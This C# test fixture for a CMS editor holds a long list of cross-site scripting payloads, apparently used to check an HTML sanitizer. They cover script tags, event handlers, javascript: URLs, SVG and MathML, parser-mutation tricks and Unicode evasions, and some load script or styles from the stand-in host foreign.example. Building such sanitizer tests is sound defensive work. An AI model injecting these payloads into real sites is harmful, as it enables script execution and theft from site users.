namespace Litt.Cms.Tests.Editors;

/// <summary>Where a script can hide in HTML: every one runs <c>alert(1)</c>, asks foreign.example for something, or sends the reader there.</summary>
internal static class ScriptIdeas
{
    private const string Svg = "data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciPjxzY3JpcHQ+YWxlcnQoMSk8L3NjcmlwdD48L3N2Zz4=";

    public static readonly string[] All =
    [
        // scripts
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//foreign.example/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script/x>alert(1)</script>",
        "<<script>alert(1)//<</script>",
        "<script\n>alert(1)</script\n>",
        "<script type=\"module\">import 'https://foreign.example/x.js'</script>",

        // event handlers
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=alert(1) ",
        "<img src=x onerror=alert(1)//",
        "<p>before</p><img title=\"x\" src=x onerror=\"alert(1)\"",
        "<img/src=x/onerror=alert(1)>",
        "<img\fsrc=x\fonerror=alert(1)>",
        "<img src=x\u0000 on\u0000error=alert(1)>",
        "<img src=`x`onerror=alert(1)>",
        "<img src=x OnErRoR=&#97;lert(1)>",
        "<img src='x' alt='\"' title=\"'\" onerror=alert(1)>",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<p onmouseover=alert(1) onclick=alert(1) style=\"width:100%\">x</p>",
        "<p tabindex=1 autofocus onfocus=alert(1)>x</p>",
        "<details open ontoggle=alert(1)><summary>x</summary></details>",
        "<video autoplay onloadstart=alert(1)><source onerror=alert(1) src=x></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<body onload=alert(1)>",
        "<p style=\"animation-name:x\" onanimationstart=alert(1)>x</p><style>@keyframes x{}</style>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<x onpointerrawupdate=alert(1) oncontentvisibilityautostatechange=alert(1) style=content-visibility:auto>x</x>",

        // addresses
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt&colon;alert(1)\">x</a>",
        "<a href=\" &#x0A;&#14; javascript:alert(1)\">x</a>",
        "<a href=\"java&Tab;scr&NewLine;ipt:alert(1)\">x</a>",
        "<a href=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097lert(1)\">x</a>",
        "<a href=\"\u0001javascript:alert(1)\">x</a>",
        "<a href=\"javascript://example.org/%0aalert(1)\">x</a>",
        "<a href=\"/{localLink:x}\" href=\"javascript:alert(1)\">x</a>",
        "<a href=\"javascript:alert(1)//{localLink:4e0f1b3e-6c6b-4d2a-9d2a-0a4f5f6c7d81}\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"vbscript:alert(1)\">x</a>",
        "<a href=\"blob:https://foreign.example/1\">x</a>",
        "<a xlink:href=\"javascript:alert(1)\">x</a>",
        "<map name=m><area shape=default href=\"javascript:alert(1)\"></map><img usemap=#m src=x width=99 height=99>",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<button form=f formaction=\"javascript:alert(1)\">x</button>",
        "<isindex type=image src=1 action=javascript:alert(1)>",
        "<input type=image src=x onerror=alert(1)>",
        "<table background=\"javascript:alert(1)\"><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",
        "<img srcset=\"javascript:alert(1) 1x\">",

        // frames and objects
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<iframe src=\"https://player.vimeo.com/video/1\" srcdoc=\"<script>alert(1)</script>\" onload=alert(1)></iframe>",
        "<iframe src=\"https://foreign.example/?player.vimeo.com\"></iframe>",
        "<iframe src=\"//player.vimeo.com@foreign.example/\"></iframe>",
        "<iframe src=\"https:\\\\foreign.example\\.vimeo.com/\"></iframe>",
        "<iframe src=\"https://foreign.example#.vimeo.com\"></iframe>",
        $"<object data=\"{Svg}\"></object>",
        $"<embed src=\"{Svg}\">",
        $"<iframe src=\"{Svg}\"></iframe>",
        "<applet code=x></applet><portal src=\"https://foreign.example\"></portal><frameset onload=alert(1)></frameset>",
        "<fencedframe src=\"https://foreign.example\"></fencedframe>",

        // what changes the page
        "<meta http-equiv=refresh content=\"0;url=https://foreign.example/\">",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://foreign.example/\"><img src=x.png>",
        "<link rel=stylesheet href=https://foreign.example/x.css><link rel=prefetch href=https://foreign.example/>",
        "<style>@import 'https://foreign.example/x.css';</style>",
        "<style>*{background:url(https://foreign.example/)}</style>",
        "<p style=\"background:url(https://foreign.example/)\">x</p>",
        "<p style=\"background-image:\\75\\72\\6c(https://foreign.example/)\">x</p>",
        "<p style=\"background:u\\rl('https://foreign.example/')\">x</p>",
        "<p style=\"background:image-set('https://foreign.example/' 1x)\">x</p>",
        "<p style=\"width:expression(alert(1));behavior:url(#x);-moz-binding:url(//foreign.example/x.xml#x)\">x</p>",
        "<p style=\"x:/*&quot;*/url(https://foreign.example/)\">x</p>",
        "<ul style=\"list-style:url(https://foreign.example/)\"><li>x</li></ul>",

        // other namespaces
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><script href=\"data:text/javascript,alert(1)\"/></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
        "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='alert(1)'/></svg>#x\"/></svg>",
        "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",
        "<math href=\"javascript:alert(1)\"><mtext>x</mtext></math>",
        "<math><maction actiontype=statusline xlink:href=\"javascript:alert(1)\">x</maction></math>",

        // what is read otherwise the second time
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
        "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<template><img src=x onerror=alert(1)></template>",
        "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
        "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>",
        "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
        "<plaintext><img src=x onerror=alert(1)>",
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--!><img src=x onerror=alert(1)>--!>",
        "<!-- <img src=x onerror=alert(1)> ",
        "<![CDATA[><img src=x onerror=alert(1)>]]>",
        "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
        "<!DOCTYPE x [<!ENTITY x \"alert(1)\">]><img src=x onerror=&x;>",
        "<select><template><img src=x onerror=alert(1)></template></select>",
        "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
        "<table><caption><svg><desc><table><caption></caption></table></desc></svg></caption></table><img src=x onerror=alert(1)>",
        "</main></body></html><img src=x onerror=alert(1)>",
        "<p title='a\">' <img src=x onerror=alert(1)>",
        "<a title=\"&quot;><img src=x onerror=alert(1)>\" href=x>x</a",

        // letters that look otherwise
        "&#x3C;img src=x onerror=alert(1)&#x3E;",
        "<\u017Fcript>alert(1)</\u017Fcript>",
        "<img src=x o\u212Aerror=alert(1) \u0130d=x onerror=alert(1)>",
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "\uFEFF<script>alert(1)</script>",
        "\u2028<script>alert(1)</script>\u202E",

        // names that hide members of the page
        "<img name=cookie><img name=getElementById><form name=body><input name=attributes></form>",
        "<iframe name=documentElement src=\"https://player.vimeo.com\"></iframe>",
    ];
}
